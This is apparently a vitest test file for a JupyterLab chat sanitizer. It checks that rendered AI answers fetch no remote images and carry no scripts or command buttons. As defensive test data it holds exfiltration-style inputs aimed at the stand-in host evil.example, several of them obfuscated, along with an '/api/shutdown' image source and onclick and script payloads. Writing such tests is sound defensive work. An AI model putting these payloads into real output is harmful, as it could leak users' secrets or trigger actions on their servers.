import { Sanitizer } from '@jupyterlab/apputils';
import { describe, expect, it } from 'vitest';
import { QuietSanitizer } from '../../../src/chat/rendering/sanitizer';

const quiet = (html: string, relative = true) =>
  new QuietSanitizer(new Sanitizer(), relative).sanitize(html);

describe('an answer that is shown', () => {
  it('fetches no picture from elsewhere: a link stands in its place', () => {
    const html = quiet('<p><img src="https://evil.example/?q=secret" alt="Chart"></p>');
    expect(html).not.toContain('<img');
    expect(html).toContain('href="https://evil.example/?q=secret"');
    expect(html).toContain('Chart (evil.example)');
  });

  it.each([
    '<img src="//evil.example/x.png">',
    '<img src="/api/shutdown">',
    '<img src="ht\ntps://evil.example/x.png">',
    '<img src="\\\\evil.example\\x.png">',
    '<img src="x.png" srcset="https://evil.example/x.png 2x">',
    '<video poster="https://evil.example/x.png"></video>',
    '<audio src="https://evil.example/x.mp3"></audio>',
    '<p style="background-image: url(https://evil.example/x.png)">x</p>',
    '<p style="background: url(//evil.example/x.png)">x</p>'
  ])('fetches nothing by %s', source => {
    const page = new DOMParser().parseFromString(quiet(source), 'text/html');
    for (const element of page.querySelectorAll('*')) {
      for (const name of ['src', 'srcset', 'poster', 'style', 'background']) {
        expect(element.getAttribute(name) ?? '').not.toMatch(/evil|shutdown/);
      }
    }
  });

  it('shows pictures that came with it or lie next to the notebook', () => {
    expect(quiet('<img src="data:image/png;base64,AAAA">')).toContain('data:image/png');
    expect(quiet('<img src="plots/a.png">')).toContain('plots/a.png');
    expect(quiet('<img src="plots/a.png">', false)).not.toContain('<img');
  });

  it('brings neither scripts nor buttons that run commands', () => {
    const html = quiet(
      '<b onclick="x()">b</b><script>x()</script><button data-commandlinker-command="x">go</button>'
    );
    expect(html).not.toMatch(/onclick|script|commandlinker/);
  });
});
